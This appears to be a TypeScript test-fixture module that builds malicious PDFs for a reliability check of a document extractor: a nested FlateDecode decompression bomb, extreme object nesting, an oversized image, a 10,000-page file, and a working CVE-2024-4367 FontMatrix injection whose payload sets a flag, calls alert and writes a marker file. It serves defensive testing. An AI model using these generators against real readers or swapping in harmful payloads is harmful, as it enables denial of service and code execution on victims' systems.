/**
 * A hostile PDF corpus, built byte by byte here (nothing is downloaded): the files RELIABILITY
 * check U3 sends through extraction. Each is small on disk and costly to read.
 */
import { deflateSync } from "node:zlib";
import { handmadePdf } from "./document-fixtures.js";

/** A PDF literal string: parentheses and backslashes escaped. */
const literal = (s: string) => `(${s.replace(/[()\\]/g, (c) => `\\${c}`)})`;

/** A content stream object with its /Length and any extra dictionary entries. */
function stream(data: Buffer | string, extra = ""): string {
  const bytes = typeof data === "string" ? data : data.toString("latin1");
  return `<< /Length ${bytes.length}${extra} >>\nstream\n${bytes}\nendstream`;
}

/**
 * A zlib stream (RFC 1950/1951) that inflates to `size` zero bytes, written directly: one block
 * with the fixed Huffman codes, a literal 0, then (length 258, distance 1) copies, 13 bits for
 * every 258 bytes. So 1 GB is about 6.5 MB of deflate: a ratio of 160 to 1, which a second
 * FlateDecode over it raises to thousands (the copies repeat, so they compress again).
 */
export function zerosDeflate(size: number): Buffer {
  const copies = Math.floor((size - 1) / 258);
  const rest = size - 1 - copies * 258;
  // Header, block, adler: bytes to spare.
  const out = Buffer.alloc(2 + Math.ceil((3 + 8 + copies * 13 + rest * 8 + 7) / 8) + 4);
  let pos = 2;
  out[0] = 0x78;
  out[1] = 0x9c;
  let acc = 0;
  let bits = 0;
  /** Writes `n` bits of `value`, least significant first (deflate's bit order). */
  const put = (value: number, n: number) => {
    acc |= value << bits;
    bits += n;
    while (bits >= 8) {
      out[pos++] = acc & 0xff;
      acc >>>= 8;
      bits -= 8;
    }
  };
  /** Writes a Huffman code, most significant bit first. */
  const code = (value: number, n: number) => {
    let reversed = 0;
    for (let i = 0; i < n; i++) reversed |= ((value >> i) & 1) << (n - 1 - i);
    put(reversed, n);
  };
  put(1, 1); // BFINAL
  put(1, 2); // BTYPE 01: fixed Huffman codes
  code(0x30, 8); // literal 0
  // Length 258 is symbol 285 (8 bits 11000101), distance 1 is distance code 0 (5 bits).
  let copy = 0;
  for (let i = 0; i < 8; i++) copy |= ((0b11000101 >> i) & 1) << (7 - i);
  for (let i = 0; i < copies; i++) put(copy, 13);
  for (let i = 0; i < rest; i++) code(0x30, 8);
  code(0, 7); // end of block
  if (bits > 0) put(0, 8 - bits);
  // Adler-32 of `size` zeros: a stays 1, b counts the bytes.
  out.writeUInt32BE((((size % 65521) << 16) | 1) >>> 0, pos);
  return out.subarray(0, pos + 4);
}

/** A page that draws its content stream (object 4), with Helvetica as /F1 (object 5). */
const PAGE =
  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>";
const HELVETICA = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

/**
 * A nested FlateDecode bomb: a page whose content stream, a few KB on disk, inflates twice to
 * `size` bytes (default 4 GB, past what any extraction limit allows).
 */
export function flateBombPdf(size = 4 * 1024 ** 3 - 1024): Buffer {
  const twice = deflateSync(zerosDeflate(size), { level: 9 });
  return handmadePdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    PAGE,
    stream(twice, " /Filter [/FlateDecode /FlateDecode]"),
    HELVETICA,
  ]);
}

/** Deep object recursion: the catalog holds an array nested `depth` levels deep. */
export function deepNestingPdf(depth = 100_000): Buffer {
  return handmadePdf([
    `<< /Type /Catalog /Pages 2 0 R /Deep ${"[".repeat(depth)}${"]".repeat(depth)} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    PAGE,
    stream("BT /F1 12 Tf 72 720 Td (Deep) Tj ET"),
    HELVETICA,
  ]);
}

/**
 * A page that draws one image declaring 100,000 × 100,000 RGB pixels (30 GB decoded), its data a
 * few bytes: a reader that decodes images before it needs them would allocate it all.
 */
export function hugeImagePdf(): Buffer {
  return handmadePdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> >> >>",
    stream("q 612 0 0 792 0 0 cm /Im1 Do Q"),
    stream(
      deflateSync(Buffer.alloc(1024 * 1024)),
      " /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
    ),
  ]);
}

/**
 * The shape of CVE-2024-4367 (pdf.js before 4.2.67 put a font's /FontMatrix into code it compiled
 * with `new Function` to draw glyphs): a Type1 font whose FontMatrix ends in a string that closes
 * the generated expression and runs JavaScript. Wherever it runs, the payload sets
 * `globalThis.pwned`; in a browser (the viewer's page or pdf.js's worker) it also asks for
 * `beacon` on the page's origin and calls `alert`; in Node it writes the file `marker`.
 */
export function fontMatrixInjectionPdf(marker: string, beacon = "/cve-2024-4367-ran"): Buffer {
  const js = `1); globalThis.pwned = true; if (typeof fetch === 'function' && globalThis.location) fetch('${beacon}'); if (typeof alert === 'function') alert('CVE-2024-4367'); if (globalThis.process) (process.getBuiltinModule ? process.getBuiltinModule('fs') : require('fs')).writeFileSync('${marker}', 'ran'); (0`;
  return handmadePdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    PAGE,
    stream("BT /F1 12 Tf 72 720 Td (FontMatrix sample text) Tj ET"),
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 ${literal(js)}] >>`,
  ]);
}

/** A document of `count` distinct pages (one content stream shared), each a real page object. */
export function manyPagesPdf(count = 10_000): Buffer {
  const first = 4;
  const kids = Array.from({ length: count }, (_, i) => `${first + i} 0 R`).join(" ");
  return handmadePdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    stream("BT /F1 12 Tf 72 720 Td (One of many pages) Tj ET"),
    ...Array.from(
      { length: count },
      () =>
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /Resources << /Font << /F1 ${first + count} 0 R >> >> >>`,
    ),
    HELVETICA,
  ]);
}
